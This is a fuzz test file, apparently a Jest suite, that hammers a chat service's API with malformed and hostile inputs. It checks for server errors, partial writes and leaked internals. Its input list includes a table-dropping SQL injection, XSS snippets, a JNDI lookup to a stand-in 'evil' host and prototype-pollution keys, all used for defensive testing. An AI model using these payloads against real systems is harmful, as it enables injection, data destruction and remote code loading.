import { randomUUID } from "node:crypto";
import fc from "fast-check";
import { createStaffKey } from "../../src/auth/staffKeys";
import { asBrowser, asOssUser, bearer, mintTestToken } from "../support/identity";
import { startTestService, type TestService } from "../support/testService";

// Bounded: a few hundred runs in all, a few seconds against the real service and Postgres.
const RUNS = 120;
const TIMEOUT_MS = 60_000;

let svc: TestService;
const browser = randomUUID();
const ossUser = `OSS-${randomUUID()}`;
const email = "fuzz@example.com";
let session: string;
let userHeaders: Record<string, string>;
let agentHeaders: Record<string, string>;
let forgedHeaders: Record<string, string>;

beforeAll(async () => {
  svc = await startTestService();
  userHeaders = await asOssUser(ossUser, email);
  forgedHeaders = bearer(await mintTestToken(ossUser, email, { secret: "f".repeat(40) }));
  agentHeaders = bearer((await createStaffKey(svc.database.knex, { name: "fuzz", role: "agent" })).key);
  const s = await svc.post("/api/oss-chat/start", { browser_uuid: browser, topic: "Fuzz" });
  session = s.body.session_id;
});
afterAll(async () => svc.stop());

const eventCount = async () =>
  (await svc.database.knex.raw("select count(*)::int as n from events")).rows[0].n as number;

const char = (min: number, max: number) => fc.integer({ min, max }).map((c) => String.fromCharCode(c));
const hostileText = fc.oneof(
  fc.string(),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: char(0, 0x1f) }), // control characters, NUL included
  fc.string({ unit: char(0xd800, 0xdfff), maxLength: 3 }), // lone surrogates
  fc.integer({ min: 300, max: 70_000 }).map((n) => "x".repeat(n)), // over every field limit, and over 64 kB
  fc.constantFrom(
    "'; DROP TABLE chat_users; --",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "$" + "{jndi:ldap://evil/a}",
    "__proto__",
    "constructor",
    "\u202e\u200b\ufeff",
    "\r\n\t\u0007\u001b[31m",
    "   ",
    "",
  ),
);
const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(hostileText, { maxLength: 3 }),
  fc.dictionary(fc.constantFrom("__proto__", "constructor", "$ne", "a"), hostileText, { maxKeys: 2 }),
);
/** Storable text that the API must accept and give back byte for byte. */
const goodText = (max: number) =>
  fc
    .string({ unit: "binary", minLength: 1, maxLength: max })
    .filter((s) => s.length <= max && s.trim() !== "" && s.isWellFormed() && !s.includes("\u0000"));
const field = <T>(good: fc.Arbitrary<T>) =>
  fc.oneof({ weight: 4, arbitrary: good }, { weight: 1, arbitrary: anyJson });
const extraKeys = fc.array(
  fc.tuple(fc.constantFrom("__proto__", "constructor", "prototype", "toString", "id"), anyJson),
  {
    maxLength: 2,
  },
);

/** JSON text with the keys as given, so a literal "__proto__" key reaches the server. */
function jsonObject(fields: Record<string, unknown>, extra: [string, unknown][]): string {
  const entries = [...Object.entries(fields), ...extra].filter(([, v]) => v !== undefined);
  return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`).join(",")}}`;
}
const body = (fields: fc.Arbitrary<Record<string, unknown>>) =>
  fc.oneof(
    { weight: 5, arbitrary: fc.tuple(fields, extraKeys).map(([f, x]) => jsonObject(f, x)) },
    { weight: 1, arbitrary: anyJson.map((v) => JSON.stringify(v) ?? "null") },
    { weight: 1, arbitrary: fc.constantFrom("{", "[]", '{"a":', "\u0000", "") },
  );
const headers = () => fc.constantFrom("none", "browser", "user", "forged", "agent");
const headersOf = (h: string): Record<string, string> =>
  ({ none: {}, browser: asBrowser(browser), user: userHeaders, forged: forgedHeaders, agent: agentHeaders })[
    h
  ] ?? {};

async function readBack(sessionId: string, position: number) {
  const r = await svc.get(`/api/oss-chat/session/${sessionId}?min_position=${position}`, agentHeaders);
  expect(r.status).toBe(200);
  return r.body;
}

const seen: Record<string, Set<number>> = {};

/** A refused command wrote nothing, and no answer is a 5xx or leaks internals. */
async function post(path: string, text: string, h: string) {
  const before = await eventCount();
  const res = await svc.post(path, text, headersOf(h));
  seen[path] = (seen[path] ?? new Set()).add(res.status);
  expect(res.status).toBeLessThan(500);
  expect(JSON.stringify(res.body)).not.toMatch(/at .*\.[jt]s:\d|\bselect\b.*\bfrom\b|insert into|stack/i);
  if (res.status >= 400) expect(await eventCount()).toBe(before);
  return res;
}

describe("fuzzed bodies and queries never cause a 5xx or a partial write, and stored text reads back exactly", () => {
  test(
    "POST /start",
    async () => {
      const fields = fc.record(
        {
          browser_uuid: field(fc.constantFrom(browser, randomUUID(), browser.toUpperCase())),
          topic: field(goodText(500)),
          priority: field(fc.constantFrom("low", "normal", "high", "urgent")),
          user_agent: field(goodText(1000)),
        },
        { requiredKeys: [] },
      );
      await fc.assert(
        fc.asyncProperty(fields, extraKeys, headers(), async (f, extra, h) => {
          const res = await post("/api/oss-chat/start", jsonObject(f, extra), h);
          if (res.status === 201) {
            expect((await readBack(res.body.session_id, res.body.position)).topic).toBe(f.topic);
          }
        }),
        { numRuns: RUNS },
      );
      // The fuzz reached both the writes and the refusals.
      expect([...(seen["/api/oss-chat/start"] ?? [])]).toEqual(expect.arrayContaining([201, 400]));
    },
    TIMEOUT_MS,
  );

  test(
    "POST /contact",
    async () => {
      const fields = fc.record(
        {
          session_id: field(fc.constantFrom(session, randomUUID())),
          contact_name: field(goodText(255)),
          contact_email: field(fc.constantFrom("a@example.com", "Budi.Santoso+chat@perusahaan.co.id")),
          contact_phone: field(fc.constantFrom("081234567890", "+62 21 5790 1234", null)),
          position: field(goodText(255)),
          company_name: field(goodText(255)),
        },
        { requiredKeys: ["session_id"] },
      );
      await fc.assert(
        fc.asyncProperty(fields, extraKeys, headers(), async (f, extra, h) => {
          const res = await post("/api/oss-chat/contact", jsonObject(f, extra), h);
          if (res.status === 200 || res.status === 201) {
            const { contact } = await readBack(res.body.session_id, res.body.position);
            expect(contact.contact_name).toBe(f.contact_name);
            expect(contact.contact_email).toBe(f.contact_email);
            expect(contact.position).toBe(f.position ?? null);
            expect(contact.company_name).toBe(f.company_name ?? null);
          }
        }),
        { numRuns: RUNS },
      );
      expect([...(seen["/api/oss-chat/contact"] ?? [])]).toContain(400);
      expect([...(seen["/api/oss-chat/contact"] ?? [])].some((st) => st === 200 || st === 201)).toBe(true);
    },
    TIMEOUT_MS,
  );

  test(
    "POST /link-user",
    async () => {
      const fields = fc.record(
        {
          browser_uuid: field(fc.constantFrom(browser, randomUUID())),
          oss_user_id: field(fc.constant(ossUser)),
          email: field(fc.constant(email)),
        },
        { requiredKeys: [] },
      );
      const linkHeaders = fc.oneof(
        { weight: 3, arbitrary: fc.constant("user") },
        { weight: 2, arbitrary: headers() },
      );
      await fc.assert(
        fc.asyncProperty(body(fields), linkHeaders, async (text, h) => {
          const res = await post("/api/oss-chat/link-user", text, h);
          if (res.status === 200) {
            expect(res.body.oss_user_id).toBe(ossUser);
            expect(res.body.chat_user_id).toMatch(/^[0-9a-f-]{36}$/);
          }
        }),
        // The plain request is always among the runs, so a fuzz that refused everything would fail below.
        { numRuns: RUNS, examples: [[JSON.stringify({ browser_uuid: browser }), "user"]] },
      );
      // The fuzz reached both the writes and the refusals.
      expect([...(seen["/api/oss-chat/link-user"] ?? [])]).toEqual(expect.arrayContaining([200, 400]));
    },
    TIMEOUT_MS,
  );

  const queryValue = fc.oneof(
    hostileText.filter((s) => s.isWellFormed()).map((s) => encodeURIComponent(s.slice(0, 3000))),
    fc.constantFrom(
      browser,
      encodeURIComponent(ossUser),
      "20",
      "0",
      "-1",
      "1e2",
      "99999999999999999999",
      "NaN",
    ),
    fc.constantFrom("%ED%A0%80", "%00", "%FF", "%", "%zz"),
  );
  const queryString = fc
    .array(
      fc.tuple(
        fc.constantFrom(
          "oss_user_id",
          "browser_uuid",
          "limit",
          "offset",
          "min_position",
          "__proto__",
          "constructor",
        ),
        queryValue,
      ),
      { maxLength: 5 },
    )
    .map((pairs) => pairs.map(([k, v]) => `${k}=${v}`).join("&"));

  test(
    "GET /history",
    async () => {
      await fc.assert(
        fc.asyncProperty(queryString, headers(), async (q, h) => {
          const before = await eventCount();
          const res = await svc.get(`/api/oss-chat/history?${q}`, headersOf(h));
          expect(res.status).toBeLessThan(500);
          expect(await eventCount()).toBe(before);
        }),
        { numRuns: RUNS },
      );
    },
    TIMEOUT_MS,
  );

  test(
    "GET /session/:id",
    async () => {
      const id = fc.oneof(fc.constantFrom(session, randomUUID()), queryValue);
      await fc.assert(
        fc.asyncProperty(id, queryString, headers(), async (sid, q, h) => {
          const res = await svc.get(`/api/oss-chat/session/${sid}?${q}`, headersOf(h));
          expect(res.status).toBeLessThan(500);
        }),
        { numRuns: RUNS },
      );
    },
    TIMEOUT_MS,
  );

  test(
    "POST /message, and conversation commands on a session",
    async () => {
      const fields = fc.record(
        {
          session_id: field(fc.constantFrom(session, randomUUID())),
          client_message_id: field(fc.constantFrom(randomUUID(), randomUUID().toUpperCase())),
          body: field(goodText(4000)),
        },
        { requiredKeys: ["session_id"] },
      );
      await fc.assert(
        fc.asyncProperty(fields, extraKeys, headers(), async (f, extra, h) => {
          const res = await post("/api/oss-chat/message", jsonObject(f, extra), h);
          if (res.status === 201) {
            const page = await svc.get(
              `/api/oss-chat/session/${session}/messages?after_seq=${res.body.seq - 1}&limit=1&min_position=${res.body.position}`,
              agentHeaders,
            );
            expect(page.body.messages[0]?.body).toBe(f.body);
          }
        }),
        { numRuns: RUNS },
      );
      expect([...(seen["/api/oss-chat/message"] ?? [])]).toEqual(expect.arrayContaining([201, 400]));
      const commands = fc.record({
        path: fc.constantFrom("close", "rating", "read"),
        id: fc.oneof(fc.constantFrom(session, randomUUID()), queryValue),
        body: body(
          fc.record(
            { score: field(fc.integer({ min: 1, max: 5 })), up_to_seq: field(fc.nat()), comment: anyJson },
            { requiredKeys: [] },
          ),
        ),
        h: headers(),
      });
      await fc.assert(
        fc.asyncProperty(commands, async (c) => {
          await post(`/api/oss-chat/session/${c.id}/${c.path}`, c.body, c.h);
        }),
        { numRuns: RUNS },
      );
    },
    TIMEOUT_MS,
  );
});
